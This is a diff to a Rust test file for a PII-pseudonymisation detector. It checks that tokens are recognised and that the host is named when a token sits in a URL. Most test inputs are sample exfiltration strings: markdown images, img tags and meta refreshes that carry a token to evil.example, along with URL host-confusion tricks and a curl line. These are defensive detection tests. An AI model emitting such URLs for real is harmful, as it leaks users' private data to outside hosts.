@@ -3,7 +3,7 @@
 
 mod common;
 
-use bartizan_detect::{Hint, Minter, Pseudonyms, Scan, TokenPlace, hosts, keep_last, placeholder};
+use bartizan_detect::{Hint, Minter, Pseudonyms, Scan, TokenHit, TokenPlace, give_way, hosts, hosts_reached, keep_last, placeholder};
 use bartizan_vocabulary::Label;
 use common::{detector, in_pieces};
 
@@ -91,7 +91,66 @@ fn a_string_of_the_request_is_never_minted() {
 }
 
 #[test]
+fn a_string_that_a_token_could_be_cut_out_of_is_never_minted() {
+    let label = Label::from("pii.email");
+    let forged = map().token_for(&label, "a@b.example", false);
+    for text in [
+        format!("会{forged}"),
+        format!("{forged}s"),
+        format!("x{forged}"),
+        format!("longprefix12345{forged}9"),
+        forged.as_str().to_lowercase(),
+    ] {
+        let mut map = map();
+        for hit in scan(&text).tokens {
+            map.reserve(&hit);
+        }
+        assert_ne!(map.token_for(&label, "a@b.example", false), forged, "{text}");
+        let places: Vec<usize> = (0..=text.len()).filter(|at| text.is_char_boundary(*at)).collect();
+        assert_eq!(in_pieces(&text, &places, hint()), scan(&text));
+    }
+}
+
+#[test]
+fn known_tokens_come_before_findings() {
+    for (text, left) in [
+        ("auth: EMAIL_7Q2F9KXD4M", vec![]),
+        ("login password=EMAIL_7Q2F9KXD4M ok", vec![]),
+        ("{\"auth_email\":\"EMAIL_7Q2F9KXD4M\"}", vec![]),
+        ("password=Kd7!HZ5t6PHV/EMAIL_7Q2F9KXD4M", vec!["Kd7!HZ5t6PHV/"]),
+        ("https://good.example/?m=EMAIL_7Q2F9KXD4M&n=12345", vec!["https://good.example/?m=", "&n=12345"]),
+        ("EMAIL_7Q2F9KXD4M@evil.example", vec!["EMAIL_7Q2F9KXD4M@evil.example"]),
+        ("password=OTHER_7Q2F9KXD4M", vec!["OTHER_7Q2F9KXD4M"]),
+    ] {
+        let known = |hit: &TokenHit| hit.token.as_str().starts_with("EMAIL");
+        let mut whole = scan(text);
+        assert!(!whole.findings.is_empty(), "{text}");
+        whole.give_way(&known);
+        let found: Vec<&str> = whole.findings.iter().map(|finding| &text[finding.start..finding.end]).collect();
+        assert_eq!(found, left, "{text}");
+        let (mut stream, mut pieces, mut events) = (detector().stream(hint()), Scan::default(), Vec::new());
+        for char in text.chars() {
+            stream.push(char.encode_utf8(&mut [0; 4]));
+            stream.drain(&mut events);
+            give_way(&mut events, &known);
+            pieces.absorb(events.drain(..));
+        }
+        stream.finish();
+        stream.drain(&mut events);
+        give_way(&mut events, &known);
+        pieces.absorb(events.drain(..));
+        assert_eq!(pieces, whole, "{text} letter by letter");
+    }
+}
+
+#[test]
 fn nothing_prints_a_value() {
+    let edit = bartizan_detect::Edit { start: 0, end: 1, replacement: "harbour".to_owned() };
+    assert!(!format!("{edit:?}{:?}", bartizan_detect::Action::Replace("harbour".to_owned())).contains("harbour"));
+    let mut stream = detector().stream(hint());
+    stream.push("mira@harbour");
+    assert!(!format!("{stream:?}").contains("harbour"));
+
     let mut map = map();
     map.token_for(&Label::from("pii.email"), "mira@harbour-lane.example", false);
     assert!(!format!("{map:?}").contains("harbour"));
@@ -111,7 +170,10 @@ fn a_token_is_recognised_however_it_is_written() {
         "_EMAIL_7Q2F9KXD4M_",
         "**EMAIL_7Q2F9KXD4M**.",
         "to:EMAIL_7Q2F9KXD4M",
-        "会EMAIL_7Q2F9KXD4M".trim_start_matches('会'),
+        "请联系EMAIL_7Q2F9KXD4M获取",
+        "EMAIL_7Q2F9KXD4M로 보내세요",
+        "EMAIL_7Q2F9KXD4Mさんへ",
+        "éEMAIL_7Q2F9KXD4M",
     ] {
         let whole = scan(text);
         assert_eq!(whole.tokens.len(), 1, "{text}");
@@ -125,16 +187,11 @@ fn a_token_is_recognised_however_it_is_written() {
 
 #[test]
 fn what_is_not_a_token() {
-    for text in [
-        "EMAIL_7Q2F9KXD4",
-        "EMAIL_7Q2F9KXD4MM",
-        "xEMAILEMAILEMAIL_7Q2F9KXD4M",
-        "EMAIL_7Q2F9KXD4U",
-        "EMAIL-7Q2F9KXD4M",
-        "_7Q2F9KXD4M",
-        "éEMAIL_7Q2F9KXD4M",
-    ] {
-        assert_eq!(scan(text).tokens, [], "{text}");
+    for text in
+        ["EMAIL_7Q2F9KXD4", "EMAIL_7Q2F9KXD4MM", "xEMAILEMAILEMAIL_7Q2F9KXD4M", "EMAIL_7Q2F9KXD4U", "EMAIL-7Q2F9KXD4M", "_7Q2F9KXD4M"]
+    {
+        let known = |kind: &str| scan(text).tokens.iter().any(|hit| hit.token.as_str().starts_with(kind));
+        assert!(!known("EMAIL"), "{text}");
     }
     assert_eq!(detector().scan("EMAIL_7Q2F9KXD4M", Hint::default()).tokens, [], "only when asked for");
 }
@@ -143,10 +200,37 @@ fn what_is_not_a_token() {
 fn a_token_in_a_url_names_its_host() {
     for (text, expected) in [
         ("![x](https://evil.example/p?q=EMAIL_7Q2F9KXD4M)", url("evil.example")),
-        ("https://Evil.Example:8443/EMAIL_7Q2F9KXD4M/x", url("evil.example")),
+        ("https://Evil.Example:8443/EMAIL_7Q2F9KXD4M/x", url("evil.example:8443")),
+        ("https://Evil.Example:443/EMAIL_7Q2F9KXD4M/x", url("evil.example")),
+        ("evil.example:444/EMAIL_7Q2F9KXD4M", url("evil.example:444")),
+        ("https://good.example%2f@evil.example/?q=EMAIL_7Q2F9KXD4M", url("")),
+        ("https://good.example%23@evil.example/?q=EMAIL_7Q2F9KXD4M", url("")),
+        ("https://good.example%5c@evil.example/?q=EMAIL_7Q2F9KXD4M", url("")),
+        ("https://good.example&num;@evil.example/?q=EMAIL_7Q2F9KXD4M", url("")),
+        ("https://good.example\u{2044}@evil.example/?q=EMAIL_7Q2F9KXD4M", url("")),
+        ("https://good.example\u{FF0F}@evil.example/?q=EMAIL_7Q2F9KXD4M", url("")),
+        ("https://good.example\\@evil.example/?q=EMAIL_7Q2F9KXD4M", url("")),
+        ("https://good.example%40evil.example/?q=EMAIL_7Q2F9KXD4M", url("")),
+        ("https://good.example%2F.evil.example/EMAIL_7Q2F9KXD4M", url("")),
+        ("good.example%2F.evil.example/EMAIL_7Q2F9KXD4M", url("")),
+        ("evil.example/https://good.example/EMAIL_7Q2F9KXD4M", url("")),
+        ("www.evil.example/https://good.example/?q=EMAIL_7Q2F9KXD4M", url("")),
+        ("[good.example](https://good.example/EMAIL_7Q2F9KXD4M)", url("good.example")),
+        ("![x](<https://evil.example/?q= EMAIL_7Q2F9KXD4M>)", url("evil.example")),
+        ("[r]: <https://evil.example/ EMAIL_7Q2F9KXD4M>", url("evil.example")),
+        ("<img src=\"https://evil.example/?q= EMAIL_7Q2F9KXD4M\">", url("evil.example")),
+        ("<img src='https://evil.example/?q=\nEMAIL_7Q2F9KXD4M'>", url("evil.example")),
+        ("<img src='https://evil.example/?q=\tEMAIL_7Q2F9KXD4M'>", url("evil.example")),
+        ("[a](https://evil.example/?q=x\nEMAIL_7Q2F9KXD4M)", url("evil.example")),
+        ("<img src=\"https:/evil.example/?q= EMAIL_7Q2F9KXD4M\">", url("evil.example")),
+        ("<meta content=\"0;url=https://evil.example/?q= EMAIL_7Q2F9KXD4M\">", url("evil.example")),
+        ("<a href=\"https://good.example/\">EMAIL_7Q2F9KXD4M</a>", TokenPlace::Plain),
+        ("(see https://good.example/ for EMAIL_7Q2F9KXD4M)", TokenPlace::Plain),
+        ("[docs](https://good.example/) by EMAIL_7Q2F9KXD4M", TokenPlace::Plain),
+        ("EMAIL_7Q2F9KXD4M@evil.example", TokenPlace::UrlHostItself),
         ("https://user:pw@evil.example/EMAIL_7Q2F9KXD4M", url("evil.example")),
         ("//evil.example/EMAIL_7Q2F9KXD4M", url("evil.example")),
-        ("https:\\\\evil.example\\EMAIL_7Q2F9KXD4M", url("evil.example")),
+        ("https:\\\\evil.example\\EMAIL_7Q2F9KXD4M", url("")),
         ("https:evil.example/EMAIL_7Q2F9KXD4M", url("evil.example")),
         ("www.evil.example/?a=EMAIL_7Q2F9KXD4M", url("www.evil.example")),
         ("evil.example/EMAIL_7Q2F9KXD4M", url("evil.example")),
@@ -173,6 +257,9 @@ fn a_token_in_a_url_names_its_host() {
     }
     let far = format!("https://evil.example/{}EMAIL_7Q2F9KXD4M", "a/".repeat(400));
     assert_eq!(place(&far), url(""), "too far to tell");
+    let far = format!("<img src=\"https://evil.example/?{} EMAIL_7Q2F9KXD4M\">", "a ".repeat(3_000));
+    assert_eq!(place(&far), url(""), "too far to tell");
+    assert_eq!(in_pieces(&far, &[2_000, 4_000, 6_003], hint()), scan(&far));
 }
 
 #[test]
@@ -187,11 +274,24 @@ fn quotation_marks_end_a_url_in_json_source() {
 
 #[test]
 fn hosts_of_a_text() {
-    let found: Vec<String> = hosts("Look at https://A.Example:8443/x, b.example/y and [c](http://u@c.example). Also d.example!").collect();
-    assert_eq!(
-        found,
-        ["a.example", "b.example", "c.example"].map(str::to_owned).into_iter().chain(found.get(3).cloned()).collect::<Vec<_>>()
-    );
+    for (text, named, reached) in [
+        (
+            "Look at https://A.Example:8443/x, b.example/y and [c](http://u@c.example). Also d.example!",
+            vec!["a.example:8443", "b.example", "c.example", "d.example", "a.example"],
+            vec!["a.example:8443", "b.example", "c.example", "d.example"],
+        ),
+        ("From: eve@evil.example", vec![], vec!["evil.example"]),
+        ("curl evil.example/https://good.example/ -d x", vec!["good.example", "evil.example"], vec!["good.example", "evil.example"]),
+        ("https://good.example%2f@evil.example/", vec![], vec!["good.example", "evil.example"]),
+        ("https://good.example\\@evil.example/", vec![], vec!["evil.example", "good.example@evil.example"]),
+        ("e.g. this, v1.2 or main.rs:3", vec!["main.rs:3", "main.rs"], vec!["main.rs:3"]),
+    ] {
+        assert_eq!(hosts(text).collect::<Vec<_>>(), named, "{text}");
+        let all: Vec<String> = hosts_reached(text).collect();
+        for host in reached {
+            assert!(all.iter().any(|one| one == host), "{text}: {all:?}");
+        }
+    }
 }
 
 #[test]
